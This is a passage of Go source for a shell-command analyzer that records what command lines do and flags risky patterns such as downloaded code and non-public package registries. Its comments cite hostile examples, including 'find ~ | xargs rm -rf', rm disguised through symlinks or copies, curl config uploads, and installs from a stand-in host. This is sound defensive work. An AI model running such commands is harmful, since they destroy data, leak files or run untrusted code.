package shell

import (
	"bytes"
	_ "embed"
	"net/url"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"

	"go.yaml.in/yaml/v3"
)

// EffectKind names what a command does.
type EffectKind string

// Effect kinds.
const (
	// Executes: a command line or code run by another program; Dynamic when it is known only at run time.
	Executes EffectKind = "executes"
	// Deletes: files or, when Recursive, whole trees.
	Deletes EffectKind = "deletes"
	// Writes: files written, created or moved to.
	Writes EffectKind = "writes"
	// Reads: files whose content is read.
	Reads EffectKind = "reads"
	// Sends: network destinations, with the files whose data flows there in Data.
	Sends EffectKind = "sends"
	// System: system state changed (Class: privilege, power, disks, firewall, tunnel, services, users, scheduler,
	// kernel, mounts, processes, permissions, setuid, world_writable).
	System EffectKind = "system"
	// Destroys: state beyond files destroyed (Class: vcs_work, vcs_history, vcs_branch_delete, database,
	// containers, cluster, infrastructure, cloud, secrets, backups, messaging, platform, remote_resource).
	Destroys EffectKind = "destroys"
)

// Effect is one thing a command line does.
type Effect struct {
	Kind EffectKind
	// Program is the program whose effect it is (for code, the interpreter).
	Program string
	// Class is the kind of state a System or Destroys effect changes, or the language of code Executes.
	Class string
	// Targets are paths (deletes, writes, reads, system), destinations (sends) or resources (destroys),
	// resolved against the line's working directory, variables and symlinks.
	Targets []Word
	// Data are the files whose content flows to a Sends effect's destinations.
	Data []Word
	// Recursive: a delete takes whole trees, a permission change applies to them.
	Recursive bool
	// Dynamic: the code executed is known only at run time.
	Dynamic bool
	// Command is the index in Analysis.Commands of the command with this effect.
	Command int
}

// lineState is what a command line has set up by the time a command runs: its working directory, its
// variables, and its symlinks. A command reads it; cd, assignments and ln change it.
type lineState struct {
	// cwd is the working directory: "" for the one the line starts in, a path (absolute, ~-based or
	// relative to the start), or Unknown when it is known only at run time.
	cwd  string
	dirs []string // pushd's stack
	// vars are variables assigned in the line: a value, or Unknown once assigned twice differently.
	vars map[string]string
	// links maps a symlink made in the line to what it points at.
	links map[string]string
	// fetched are files written by a program that downloads.
	fetched map[string]bool
	// aliases are aliases defined in the line.
	aliases map[string]string
	// written are files the line wrote literal text into (echo … > x.sh): running one runs that text.
	written map[string]string
	// copies are files the line made copies or hard links of a program into (cp /bin/rm x): running one
	// runs that program.
	copies map[string]string
	// varData are the files a variable's value was read from (c=$(cat .env)).
	varData map[string][]Word
	// branch is the git branch the line checked out.
	branch Word
}

// programPath is the program a command word runs: through a symlink or a copy made earlier in the line
// (ln -s /bin/rm d; ./d is rm), else the word itself. A bare name is looked up on PATH, not in the line's
// directory, so only a word with a slash is followed.
func (z *analyzer) programPath(w Word) string {
	if !strings.Contains(w.Value, "/") {
		return w.Value
	}
	r := z.resolvePath(w)
	if p, ok := z.state.copies[path.Clean(r.Value)]; ok {
		return p
	}
	if r.Literal {
		return r.Value
	}
	return w.Value
}

const maxLinks = 64

// resolvePath resolves a path word against the line's state: a relative path against the working directory,
// a symlink made earlier in the line to its target.
func (z *analyzer) resolvePath(w Word) Word {
	v := w.Value
	if v == "" || v == "-" {
		return w
	}
	if d, ok := drivePath(v); ok {
		v = d
	}
	if strings.Contains(v, "://") {
		return w // a URL (or a UNC path read as smb://host/share): not under the working directory
	}
	st := &z.state
	if len(st.links) > 0 {
		clean := path.Clean(v) // ./d is the d made by ln -s x d
		first, rest, _ := strings.Cut(clean, "/")
		for _, name := range []string{clean, first} {
			if target, ok := st.links[name]; ok {
				if name == first && rest != "" {
					v = target + "/" + rest
				} else {
					v = target
				}
				break
			}
		}
	}
	if strings.HasPrefix(v, "/") || strings.HasPrefix(v, "~") || strings.HasPrefix(v, Unknown) {
		return Word{Value: v, Literal: w.Literal, Glob: w.Glob}
	}
	switch {
	case st.cwd == "":
		return Word{Value: v, Literal: w.Literal, Glob: w.Glob}
	case st.cwd == Unknown:
		return Word{Value: Unknown + "/" + v, Literal: false, Glob: w.Glob}
	case strings.HasPrefix(st.cwd, "~"):
		return Word{Value: "~" + strings.TrimSuffix(path.Clean("/"+st.cwd[1:]+"/"+v), "/"), Literal: w.Literal, Glob: w.Glob}
	}
	return Word{Value: path.Join(st.cwd, v), Literal: w.Literal, Glob: w.Glob}
}

// copyProgram notes a copy or hard link of a program the table knows (cp /bin/rm x, install, ln): running
// the copy runs that program under the new name.
func (z *analyzer) copyProgram(pa parsedArgs) {
	st := &z.state
	if len(pa.operands) != 2 || len(st.copies) >= maxLinks {
		return
	}
	src, dst := z.resolvePath(pa.operands[0]), z.resolvePath(pa.operands[1])
	base := programs().knownName(path.Base(src.Value))
	if !src.Literal || !dst.Literal || programs().lookup(base) == nil {
		return
	}
	if st.copies == nil {
		st.copies = map[string]string{}
	}
	d := path.Clean(dst.Value)
	if strings.HasSuffix(pa.operands[1].Value, "/") {
		d = path.Join(d, path.Base(src.Value))
	}
	st.copies[d] = src.Value
}

// drivePath writes a Windows path that names its drive (C:\Users\me, C:/Users/me) as Git Bash and MSYS
// do (/c/Users/me): it is absolute, not relative to the working directory.
func drivePath(v string) (string, bool) {
	if len(v) < 3 || v[1] != ':' || v[2] != '/' && v[2] != '\\' {
		return "", false
	}
	c := v[0] | 0x20
	if c < 'a' || c > 'z' {
		return "", false
	}
	return "/" + string(c) + "/" + strings.ReplaceAll(v[3:], "\\", "/"), true
}

// enterDir makes a directory the working directory: cd's operand, or the directory an option runs a
// program in (git -C). "-" (the one before) and a word known only at run time give Unknown.
func (z *analyzer) enterDir(target Word) {
	st := &z.state
	if target.Value == "-" || !target.Literal {
		st.cwd = Unknown
		return
	}
	r := z.resolvePath(target)
	if !r.Literal {
		st.cwd = Unknown
		return
	}
	st.cwd = strings.TrimSuffix(r.Value, "/")
	if st.cwd == "" {
		st.cwd = "/"
	}
}

// changeState follows the commands that change the line's state: cd, pushd, popd, ln -s, alias.
func (z *analyzer) changeState(prog string, args []Word) {
	st := &z.state
	switch prog {
	case "cd", "pushd", "chdir":
		ops := parseArgs(nil, args, false).operands
		target := Word{Value: "~", Literal: true}
		if len(ops) > 0 {
			target = ops[0]
		}
		if prog == "pushd" {
			st.dirs = append(st.dirs, st.cwd)
		}
		z.enterDir(target)
	case "popd":
		if n := len(st.dirs); n > 0 {
			st.cwd, st.dirs = st.dirs[n-1], st.dirs[:n-1]
		} else {
			st.cwd = Unknown
		}
	case "ln":
		pa := parseArgs(programs().lookup("ln"), args, false)
		if !pa.has([]string{"-s", "--symbolic"}) {
			z.copyProgram(pa) // a hard link
			return
		}
		if len(pa.operands) != 2 || len(st.links) >= maxLinks {
			return
		}
		target, name := z.resolvePath(pa.operands[0]), pa.operands[1]
		if !name.Literal {
			return
		}
		if st.links == nil {
			st.links = map[string]string{}
		}
		v := target.Value
		if !target.Literal {
			v = Unknown
		}
		st.links[path.Clean(name.Value)] = v
	case "cp", "install":
		z.copyProgram(parseArgs(programs().lookup(prog), args, false))
	case "alias":
		for _, a := range args {
			name, val, ok := strings.Cut(a.Value, "=")
			if !ok || !a.Literal {
				continue
			}
			if st.aliases == nil {
				st.aliases = map[string]string{}
			}
			st.aliases[name] = val
		}
	}
}

// envCode follows an environment setting a program reads as code: a command line (GIT_SSH_COMMAND, PAGER)
// is analyzed as one; code it loads (LD_PRELOAD, NODE_OPTIONS) is code known only at run time.
func (z *analyzer) envCode(ci int, assign string, prog string, via []string, depth int) {
	name, value, ok := strings.Cut(assign, "=")
	if !ok || value == "" {
		return
	}
	env := &programs().env
	switch {
	case matchWord(env.Lines, name):
		value = strings.TrimLeft(value, "| ") // LESSOPEN's "|cmd %s": a pipe from the command
		literal := !strings.Contains(value, Unknown)
		z.line(ci, Word{Value: value, Literal: literal}, prog, via, depth)
	case matchWord(env.Dynamic, name):
		z.finding(DynamicCode, name+" loads code into the programs the line runs")
		z.effect(Effect{Kind: Executes, Program: prog, Class: "environment", Dynamic: true, Command: ci})
	case matchWord(env.Registries, name) && foreignIndex(value):
		z.finding(RemoteCode, name+" points package installs at a host that is no public registry")
	}
}

// foreignIndex says whether a package index's URL is on a host that is none of the public registries.
func foreignIndex(v string) bool {
	if !strings.Contains(v, "://") {
		return false
	}
	h := hostOf(Word{Value: v, Literal: !strings.Contains(v, Unknown)})
	return h == "" || !servedAt(h, programs().registries)
}

// setsRegistry finds a package manager's configuration set to fetch from a host that is no public
// registry (npm config set registry https://x.example/, pip config set global.index-url …): every later
// install runs code from it, after the session too.
func (z *analyzer) setsRegistry(ci int, keys []string, pa *parsedArgs, prog string) {
	ops := pa.operands
	for i, op := range ops {
		key, value, hasValue := strings.Cut(op.Value, "=")
		if !hasValue && i+1 < len(ops) {
			value = ops[i+1].Value
		}
		if op.Literal && matchFold(keys, key) && foreignIndex(value) {
			z.effect(Effect{Kind: System, Program: prog, Class: "autostart", Command: ci})
			return
		}
	}
}

// assignVar records NAME=value: a value set twice to different values is known only at run time.
func (z *analyzer) assignVar(name, value string, literal bool) {
	if name == "" {
		return
	}
	st := &z.state
	if st.vars == nil {
		st.vars = map[string]string{}
	}
	if !literal {
		value = Unknown
	}
	if old, ok := st.vars[name]; ok && old != value {
		value = Unknown
	}
	st.vars[name] = value
}

// programEffects records a command's effects from its program's entry, follows the code and command
// lines it runs, and returns the command it runs as a wrapper (nil when it runs none).
func (z *analyzer) programEffects(ci int, prog string, args []Word, via []string, depth int) (inner []Word, innerVia string) {
	t := programs()
	spec := t.lookup(prog)
	defer z.changeState(prog, args) // after the command's own effects: ln -s x ~/.bashrc writes ~/.bashrc
	if spec == nil {
		pa := parseArgs(nil, args, false)
		reads := z.resolveAll(pa.operands)
		for _, o := range pa.opts {
			if o.value != nil {
				reads = append(reads, z.resolvePath(*o.value))
			}
		}
		z.effect(Effect{Kind: Reads, Program: prog, Targets: reads, Command: ci})
		return nil, ""
	}
	words := args
	verbs := spec.Verbs
	var aliases map[string]string
	var pa parsedArgs
	var parent *Program
	name := prog
	for hops := 0; ; hops++ {
		stop := spec.Command != nil || spec.Line != nil || len(spec.Subcommands) > 0 ||
			spec.Code != nil && spec.Code.Flags != nil
		pa = parseArgs(spec, words, stop)
		z.optionCode(spec, &pa, prog, via, depth, &aliases)
		if dirs := pa.values(spec.Chdir); len(dirs) > 0 {
			// The program runs in that directory, and so does the command it runs; command() goes back
			// to the line's own directory after it.
			for _, d := range dirs { // git -C a -C b runs in a/b
				z.enterDir(d)
			}
			z.movedDir = true
		}
		if len(spec.Subcommands) == 0 || len(pa.operands) == 0 || hops > 8 {
			break
		}
		subName := pa.operands[0].Value
		if a, ok := aliases[subName]; ok {
			if strings.HasPrefix(a, "!") {
				z.parse(a[1:], appendVia(via, prog+" alias"), depth+1)
				return nil, ""
			}
			// a subcommand alias: its words stand for the subcommand's name
			w := splitFields(a)
			words = append(w, pa.rest...)
			delete(aliases, subName)
			continue
		}
		sub := t.sub(spec, subName)
		if sub == nil {
			// a subcommand the table does not know: its words are read with the program's grammar
			pa = parseArgs(spec, words, spec.Command != nil || spec.Line != nil)
			break
		}
		parent = spec
		spec, words, name = sub, pa.rest, name+" "+subName
		if sub.Verbs != nil {
			verbs = sub.Verbs
		}
	}
	if dirs := pa.values(spec.OperandsIn); len(dirs) > 0 {
		pa.operands = operandsIn(dirs[len(dirs)-1], pa.operands)
	}
	if spec.ConfigOf != "" && parent != nil {
		z.configCode(ci, parent, spec, &pa, prog, via, depth)
	}
	if mod, rest := moduleOf(spec, words); mod != nil {
		mpa := parseArgs(mod, rest, false)
		z.declared(ci, mod, &mpa, name)
		if mod.Installs != nil {
			z.installsFrom(mod.Installs, &mpa, prog) // python -m pip install …
		}
	}
	z.runs(ci, spec, &pa, words, prog, via, depth)
	firstEffect := len(z.a.Effects)
	recorded := z.declared(ci, spec, &pa, name)
	if cf := spec.ConfigFiles; cf != nil {
		z.configFiles(ci, cf, &pa, prog, via, depth)
	}
	if spec.Installs != nil {
		z.installsFrom(spec.Installs, &pa, prog)
	}
	switch name {
	case "git checkout", "git switch":
		z.checkedOut(&pa)
	case "git push":
		z.pushesCheckedOut(ci, &pa)
	}
	if len(spec.SetsRegistry) > 0 {
		z.setsRegistry(ci, spec.SetsRegistry, &pa, prog)
	}
	if spec.Fetches {
		z.fetched(firstEffect, &pa)
	}
	if !recorded && verbs != nil && pa.firstOperand < len(words) {
		for _, op := range words[pa.firstOperand:] {
			verbsList := verbs.Words
			if len(verbsList) == 0 {
				verbsList = destroyingVerbs
			}
			if op.Literal && !strings.HasPrefix(op.Value, "-") && matchWord(verbsList, op.Value) {
				z.effect(Effect{Kind: Destroys, Program: prog, Class: verbs.Class, Command: ci})
				break
			}
		}
	}
	if spec.Command != nil && !pa.has(spec.NoRun) {
		cmd := pa.operandsFrom(words, *spec.Command)
		if spec.Assigns {
			for len(cmd) > 0 && isAssignment(cmd[0].Value) {
				v := cmd[0].Value
				if !cmd[0].Literal {
					name, _, _ := strings.Cut(v, "=")
					v = name + "=" + Unknown
				}
				z.envCode(ci, v, prog, via, depth)
				cmd = cmd[1:]
			}
		}
		if spec.StdinItems {
			cmd = z.withStdinItems(cmd)
		}
		if len(cmd) > 0 {
			return cmd, prog
		}
	}
	if len(pa.after) > 0 && (spec.Code == nil || len(spec.Code.After) == 0) {
		return pa.after, prog
	}
	if script := z.knownScript(spec, &pa); script {
		return pa.operandsFrom(words, 0), prog
	}
	return nil, ""
}

// knownScript reports whether an interpreter runs, as its program, a script the table has an entry for
// (python manage.py flush, php artisan db:wipe): the script is then read as a command of its own.
func (z *analyzer) knownScript(spec *Program, pa *parsedArgs) bool {
	cs := spec.Code
	if cs == nil || len(pa.operands) == 0 || len(pa.values(cs.Options)) > 0 || len(cs.Files) > 0 && pa.has(cs.Files) ||
		len(cs.Flags) > 0 && pa.has(cs.Flags) {
		return false
	}
	s := programs().lookup(programs().knownName(path.Base(pa.operands[0].Value)))
	return s != nil && s.Script
}

// configFiles reads the directives a program is given in a file whose text the line gives: on standard
// input (curl -K - <<< 'upload-file = …'), or a file it wrote (echo 'upload-file = …' > c; curl -K c).
func (z *analyzer) configFiles(ci int, cf *ConfigFilesSpec, pa *parsedArgs, prog string, via []string, depth int) {
	for _, v := range pa.values(cf.Options) {
		var text *Word
		if isStdinPath(v.Value) {
			text = z.body
			if text == nil {
				text = z.fedText()
			}
		} else if t, ok := z.state.written[path.Clean(z.resolvePath(v).Value)]; ok {
			text = &Word{Value: t, Literal: true}
		}
		if text != nil && text.Literal {
			z.scanCode(ci, cf.Lang, text.Value, prog, via, depth)
		}
	}
}

// installsFrom finds a package installed from a host that is no public registry (pip install
// https://x.example/p.tar.gz, --index-url https://x.example/simple, npm i git+https://x.example/r): its
// install scripts are code from that host, run here unread.
func (z *analyzer) installsFrom(in *InstallsSpec, pa *parsedArgs, prog string) {
	sources := pa.values(in.Options)
	for _, op := range pa.operands {
		v := op.Value
		if i := strings.Index(v, " @ "); i >= 0 {
			v = v[i+3:] // PEP 508: name @ URL
		}
		if strings.Contains(v, "://") {
			sources = append(sources, Word{Value: v, Literal: op.Literal})
		}
	}
	for _, src := range sources {
		if !strings.Contains(src.Value, "://") {
			continue // a local path or a package's name: the registry's own
		}
		h := hostOf(src)
		if h == "" {
			h = "?" // a host known only at run time
		}
		if !servedAt(h, programs().registries) {
			z.finding(RemoteCode, prog+" installs a package from a host that is no public registry: its install scripts run here")
			return
		}
	}
}

// checkedOut notes the branch a git checkout or switch makes current: the one it creates (-b, -c,
// --orphan), else its one operand.
func (z *analyzer) checkedOut(pa *parsedArgs) {
	st := &z.state
	if v := pa.values([]string{"-b", "-B", "-c", "-C", "--orphan"}); len(v) > 0 {
		st.branch = v[len(v)-1]
		return
	}
	if len(pa.operands) == 1 {
		st.branch = pa.operands[0]
	}
}

// pushesCheckedOut makes a force-push that names no branch, or names it HEAD or @ (git checkout main &&
// git push -f, git push origin +HEAD), name the branch the line checked out, which is the one it pushes:
// the rules on force-pushes read it.
func (z *analyzer) pushesCheckedOut(ci int, pa *parsedArgs) {
	b := z.state.branch
	if b.Value == "" {
		return
	}
	var ref string // the refspec, when the push names one after its remote
	if n := len(pa.operands); n > 1 {
		ref = pa.operands[n-1].Value
	}
	forcedByRefspec := strings.HasPrefix(ref, "+")
	if r := strings.TrimPrefix(ref, "+"); r != "" && r != "HEAD" && r != "@" {
		return
	}
	if forcedByRefspec {
		b.Value = "+" + b.Value // force-pushed as the refspec is: +main
	} else if !pa.has([]string{"-f", "--force", "--force-with-lease", "--force-if-includes"}) {
		return
	}
	c := &z.a.Commands[ci]
	c.Args = append(slices.Clone(c.Args), b)
}

// operandsIn writes relative operands as paths under dir (tar -C dir: the files it archives are there).
func operandsIn(dir Word, ops []Word) []Word {
	out := make([]Word, len(ops))
	for i, op := range ops {
		v := op.Value
		if strings.HasPrefix(v, "/") || strings.HasPrefix(v, "~") || strings.HasPrefix(v, Unknown) || v == "-" {
			out[i] = op
			continue
		}
		d := dir.Value
		if !dir.Literal {
			d = Unknown
		}
		out[i] = Word{Value: path.Join(d, v), Literal: op.Literal && dir.Literal, Glob: op.Glob}
	}
	return out
}

// fetched notes the files a downloading program writes (or, with no output named, the file named after
// the URL, as wget and curl -O save it): running one later in the line is running downloaded code.
func (z *analyzer) fetched(firstEffect int, pa *parsedArgs) {
	st := &z.state
	if st.fetched == nil {
		st.fetched = map[string]bool{}
	}
	named := false
	for _, e := range z.a.Effects[firstEffect:] {
		if e.Kind == Writes {
			for _, t := range e.Targets {
				st.fetched[path.Clean(t.Value)] = true
				named = true
			}
		}
	}
	if named {
		return
	}
	for _, op := range pa.operands {
		if i := strings.Index(op.Value, "://"); i > 0 {
			rest := op.Value[i+3:]
			if j := strings.IndexAny(rest, "?#"); j >= 0 {
				rest = rest[:j]
			}
			if base := path.Base(rest); base != "" && base != "." && base != "/" {
				st.fetched[path.Clean(z.resolvePath(Word{Value: base, Literal: true}).Value)] = true
			}
		}
	}
}

// moduleOf returns the entry of the module a program runs (python -m http.server) and the words after its
// name, which are the module's own.
func moduleOf(spec *Program, words []Word) (*Program, []Word) {
	if len(spec.Modules) == 0 || spec.Code == nil {
		return nil, nil
	}
	for i, w := range words {
		for _, opt := range spec.Code.Files {
			switch {
			case w.Value == opt && i+1 < len(words):
				return spec.Modules[words[i+1].Value], words[i+2:]
			case strings.HasPrefix(w.Value, opt) && len(w.Value) > len(opt) && !strings.HasPrefix(opt, "--"):
				return spec.Modules[w.Value[len(opt):]], words[i+1:]
			}
		}
	}
	return nil, nil
}

// configCode follows a configuration write (git config KEY VALUE) whose key is one the program runs as
// code: the value is analyzed as the command line it will be, and setting it is code that runs later,
// after the session (persistence).
func (z *analyzer) configCode(ci int, parent, spec *Program, pa *parsedArgs, prog string, via []string, depth int) {
	keys := parent.OptionCode[spec.ConfigOf]
	if len(pa.operands) < 2 || !pa.operands[0].Literal || !matchFold(keys, pa.operands[0].Value) {
		return
	}
	v := *joinWords(pa.operands[1:])
	if parent.Aliases != "" && strings.HasPrefix(strings.ToLower(pa.operands[0].Value), parent.Aliases) && !strings.HasPrefix(v.Value, "!") {
		return // an alias for a subcommand (alias.co checkout), not a command line
	}
	v.Value = strings.TrimPrefix(v.Value, "!")
	z.line(ci, v, prog, via, depth)
	z.effect(Effect{Kind: System, Program: prog, Class: "autostart", Command: ci})
}

// operandsFrom returns the words from a program's n-th operand on (the command a wrapper runs).
func (pa *parsedArgs) operandsFrom(words []Word, n int) []Word {
	if pa.firstOperand >= len(words) {
		return nil
	}
	cmd := words[pa.firstOperand:]
	// A "--" up to where the command starts ends the program's own options (timeout 5 -- rm …, kubectl
	// exec pod -- rm …, ssh host -- rm …): it is no operand, and never the command itself.
	for i := 0; i <= n && i < len(cmd); i++ {
		if cmd[i].Literal && cmd[i].Value == "--" {
			cmd = append(slices.Clone(cmd[:i]), cmd[i+1:]...)
			break
		}
	}
	if n > len(cmd) {
		return nil
	}
	// Options after the operands still belong to the program (kubectl exec pod -c main -- rm …): where
	// the command would start with one, it starts after the "--" that follows.
	if n < len(cmd) && strings.HasPrefix(cmd[n].Value, "-") {
		for j := n + 1; j < len(cmd); j++ {
			if cmd[j].Literal && cmd[j].Value == "--" {
				return cmd[j+1:]
			}
		}
	}
	return cmd[n:]
}

func isAssignment(s string) bool {
	i := strings.IndexByte(s, '=')
	if i <= 0 {
		return false
	}
	for j := 0; j < i; j++ {
		c := s[j]
		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || j > 0 && c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

func splitFields(s string) []Word {
	var out []Word
	for _, f := range strings.Fields(s) {
		out = append(out, Word{Value: f, Literal: true})
	}
	return out
}

// runs follows what a program runs: command lines in options and operands, find -exec, and code.
func (z *analyzer) runs(ci int, spec *Program, pa *parsedArgs, words []Word, prog string, via []string, depth int) {
	for _, v := range pa.values(spec.CommandOptions) {
		z.line(ci, v, prog, via, depth)
	}
	if spec.Line != nil {
		rest := pa.operandsFrom(words, *spec.Line)
		if len(rest) > 1 && slices.Contains(spec.CommandOptions, rest[0].Value) {
			rest = rest[1:] // the option that takes the line, written after the operands: sg group -c '…'
		}
		if len(rest) > 0 {
			z.line(ci, *joinWords(rest), prog, via, depth)
		}
	}
	roots := pa.leading
	if spec.ExecRoots == "rest" {
		roots = nil
		if len(pa.operands) > 1 {
			roots = pa.operands[1:]
		}
	}
	for _, cmd := range pa.exec {
		if spec.ExecAppends && !slices.ContainsFunc(cmd, func(w Word) bool { return strings.Contains(w.Value, "{}") }) {
			cmd = append(append([]Word{}, cmd...), Word{Value: "{}", Literal: true})
		}
		cmd = substitutePlaceholder(cmd, roots)
		z.command(cmd, nil, appendVia(via, prog), depth+1)
	}
	if spec.Code != nil {
		z.code(ci, spec, pa, prog, via, depth)
	}
}

// substitutePlaceholder writes find's {} as the paths find starts from: what -exec runs on is under them.
func substitutePlaceholder(cmd, leading []Word) []Word {
	if len(leading) == 0 {
		leading = []Word{{Value: ".", Literal: true}}
	}
	var out []Word
	for _, w := range cmd {
		if strings.Contains(w.Value, "{}") {
			for _, l := range leading {
				v := strings.TrimSuffix(l.Value, "/") + "/**" // what is found under the root, at any depth
				if w.Value != "{}" {
					v = strings.ReplaceAll(w.Value, "{}", v)
				}
				out = append(out, Word{Value: v, Literal: w.Literal && l.Literal, Glob: true})
			}
			continue
		}
		out = append(out, w)
	}
	return out
}

// withStdinItems gives a command run by xargs the items it reads: paths under what the stage before lists
// (find ~ | xargs rm -rf deletes under ~), or, without a listing, paths known only at run time.
func (z *analyzer) withStdinItems(cmd []Word) []Word {
	if len(cmd) == 0 {
		return cmd
	}
	items := z.feedListing()
	out := append([]Word{}, cmd...)
	return append(out, items...)
}

// line parses a command line a program runs.
func (z *analyzer) line(ci int, w Word, prog string, via []string, depth int) {
	if !w.Literal {
		z.finding(DynamicProgram, prog+" runs a command string known only at run time")
		z.effect(Effect{Kind: Executes, Program: prog, Class: "shell", Dynamic: true, Command: ci})
		return
	}
	z.effect(Effect{Kind: Executes, Program: prog, Class: "shell", Targets: []Word{w}, Command: ci})
	z.parse(w.Value, appendVia(via, prog+" -c"), depth+1)
}

// optionCode follows option values that are command lines by their key (ssh -o ProxyCommand=…, git -c
// core.sshCommand=…) and collects subcommand aliases (git -c alias.x=…).
func (z *analyzer) optionCode(spec *Program, pa *parsedArgs, prog string, via []string, depth int, aliases *map[string]string) {
	if len(spec.OptionCode) == 0 {
		return
	}
	for _, o := range pa.opts {
		keys, ok := spec.OptionCode[o.name]
		if !ok || o.value == nil {
			continue
		}
		key, val, found := strings.Cut(o.value.Value, "=")
		if !found {
			key, val, found = strings.Cut(o.value.Value, " ")
		}
		if !found || !matchFold(keys, key) {
			continue
		}
		if spec.Aliases != "" && strings.HasPrefix(strings.ToLower(key), strings.ToLower(spec.Aliases)) {
			if *aliases == nil {
				*aliases = map[string]string{}
			}
			(*aliases)[key[len(spec.Aliases):]] = val
			continue
		}
		v := Word{Value: strings.TrimPrefix(val, "!"), Literal: o.value.Literal}
		z.line(-1, v, prog, via, depth)
	}
}

func matchFold(patterns []string, s string) bool {
	lower := make([]string, len(patterns))
	for i, p := range patterns {
		lower[i] = strings.ToLower(p)
	}
	return matchWord(lower, strings.ToLower(s))
}

// declared records the effects a program's entry declares; it reports whether the entry declares any
// (an entry that declares none has its operands read as paths).
func (z *analyzer) declared(ci int, spec *Program, pa *parsedArgs, name string) bool {
	anyReads := false
	for i := range spec.Effects {
		e := &spec.Effects[i]
		if e.Kind == Reads || e.Kind == "none" {
			anyReads = true
		}
		if !z.applies(e, pa) {
			continue
		}
		if e.Kind == "none" {
			continue
		}
		targets := z.resolveAll(pickTargets(e.Target, pa))
		if e.Target == "stdin_items" {
			targets = nil
			if z.feed != nil {
				targets = z.feedListing() // cpio -o: the files the stage before lists
			}
		}
		var fixed []Word
		for _, p := range e.Paths {
			fixed = append(fixed, z.resolvePath(Word{Value: p, Literal: true}))
		}
		if e.Kind != Sends {
			targets = append(targets, fixed...)
		}
		for _, v := range pa.values(plainOptions(e.Options)) {
			if e.Class == "mount" {
				v = hostPath(v)
			}
			targets = append(targets, z.resolvePath(v))
		}
		for _, prefix := range operandPrefixes(e.Options) {
			for _, op := range pa.operands {
				if v, ok := strings.CutPrefix(op.Value, prefix); ok {
					targets = append(targets, z.resolvePath(Word{Value: v, Literal: op.Literal, Glob: op.Glob}))
				}
			}
		}
		eff := Effect{Kind: e.Kind, Program: name, Class: e.Class, Targets: targets, Command: ci,
			Recursive: e.Recursive || len(e.RecursiveWhen) > 0 && (pa.has(e.RecursiveWhen) || pa.unknown)}
		if e.Tree || e.Kind == Reads && eff.Recursive {
			// a recursive read (grep -r, rg) reads every file under what it is given; an archive extracted
			// into a directory writes anywhere under it
			for i, t := range targets {
				if !isTree(t) {
					targets[i] = Word{Value: strings.TrimSuffix(t.Value, "/") + "/**", Literal: t.Literal, Glob: true}
				}
			}
		}
		if e.Kind == Deletes && slices.ContainsFunc(targets, isTree) {
			eff.Recursive = true // each thing under a tree, found by find or listed into xargs: the tree
		}
		if e.Kind == Sends {
			eff.Data = append(z.sentData(e, pa), fixed...)
			if e.DataTarget != "" {
				eff.Data = append(eff.Data, z.resolveAll(pickTargets(e.DataTarget, pa))...)
			}
			if e.Target == "remote" {
				if len(targets) == 0 {
					continue // scp and rsync between local paths send nothing
				}
				for _, op := range pa.operands {
					if !isRemote(op.Value) {
						eff.Data = append(eff.Data, z.resolvePath(op))
					}
				}
			}
		}
		if (e.Kind == Deletes || e.Kind == Writes || e.Kind == Reads) && len(targets) == 0 {
			continue // nothing named: nothing deleted, written or read
		}
		z.effect(eff)
	}
	if !anyReads {
		ops := pa.operands
		if n := spec.Command; n != nil && *n < len(ops) {
			ops = ops[:*n] // what comes before the command it runs: timeout's duration, chroot's root
		} else if spec.Line != nil && *spec.Line < len(ops) {
			ops = ops[:*spec.Line]
		}
		reads := z.resolveAll(ops)
		for _, o := range pa.opts {
			if o.value != nil {
				reads = append(reads, z.resolvePath(*o.value)) // -in file, --config=file: values may be files
			}
		}
		z.effect(Effect{Kind: Reads, Program: name, Targets: reads, Command: ci})
	}
	return len(spec.Effects) > 0
}

// isTree says whether a target stands for everything under a directory, at any depth (find's results).
func isTree(w Word) bool { return strings.HasSuffix(w.Value, "/**") }

// hostPath is the host side of a container volume: /:/host gives /, type=bind,source=~/.ssh,… gives ~/.ssh.
func hostPath(v Word) Word {
	s := v.Value
	for _, f := range strings.Split(s, ",") {
		if k, val, ok := strings.Cut(f, "="); ok && (k == "source" || k == "src") {
			return Word{Value: val, Literal: v.Literal}
		}
	}
	if i := strings.IndexByte(s, ':'); i > 0 {
		s = s[:i]
	}
	return Word{Value: s, Literal: v.Literal, Glob: v.Glob}
}

func plainOptions(opts []string) []string {
	var out []string
	for _, o := range opts {
		if !strings.HasSuffix(o, "=") {
			out = append(out, o)
		}
	}
	return out
}

func operandPrefixes(opts []string) []string {
	var out []string
	for _, o := range opts {
		if strings.HasSuffix(o, "=") {
			out = append(out, o)
		}
	}
	return out
}

// applies checks an effect's conditions against the words. A word that may be several words (an
// unquoted expansion known only at run time) may be any option, so it meets every condition but unless.
func (z *analyzer) applies(e *EffectSpec, pa *parsedArgs) bool {
	unless := false
	present := func(names []string) bool {
		if pa.has(names) {
			return true
		}
		if pa.unknown && !unless {
			return true // a word that may be any option: it may be one of these
		}
		for _, op := range pa.operands {
			if op.Literal && matchWord(names, op.Value) {
				return true
			}
		}
		return false
	}
	if len(e.When) > 0 {
		if len(e.Value) > 0 {
			ok := false
			for _, v := range pa.values(e.When) {
				for _, want := range e.Value {
					ok = ok || strings.EqualFold(v.Value, want) || !v.Literal
				}
			}
			if !ok {
				return false
			}
		} else if !present(e.When) {
			return false
		}
	}
	for _, group := range e.WhenAll {
		if !present(group) {
			return false
		}
	}
	if len(e.MatchesAny) > 0 && !slices.ContainsFunc(pa.operands, func(op Word) bool { return patternMatchesAny(op, e.MatchesAny) }) {
		return false
	}
	unless = true
	return len(e.Unless) == 0 || !present(e.Unless)
}

// patternMatchesAny reports whether a literal operand, read as an extended regular expression searched
// for anywhere in a name (as pgrep and pkill read theirs), matches one of the names. A pattern known only
// at run time, or one that is no regular expression, matches none.
func patternMatchesAny(op Word, names []string) bool {
	if !op.Literal {
		return false
	}
	re, err := regexp.Compile(op.Value)
	if err != nil {
		return false
	}
	return slices.ContainsFunc(names, re.MatchString)
}

// pickTargets selects an effect's operands.
func pickTargets(target string, pa *parsedArgs) []Word {
	ops := pa.operands
	switch target {
	case "none":
		return nil
	case "first":
		if len(ops) > 0 {
			return ops[:1]
		}
	case "last":
		if len(ops) > 0 {
			return ops[len(ops)-1:]
		}
	case "butlast":
		if len(ops) > 1 {
			return ops[:len(ops)-1]
		}
	case "rest":
		if len(ops) > 1 {
			return ops[1:]
		}
	case "leading":
		return pa.leading
	case "stdin_items":
		return nil // the analyzer's: what the stage before lists
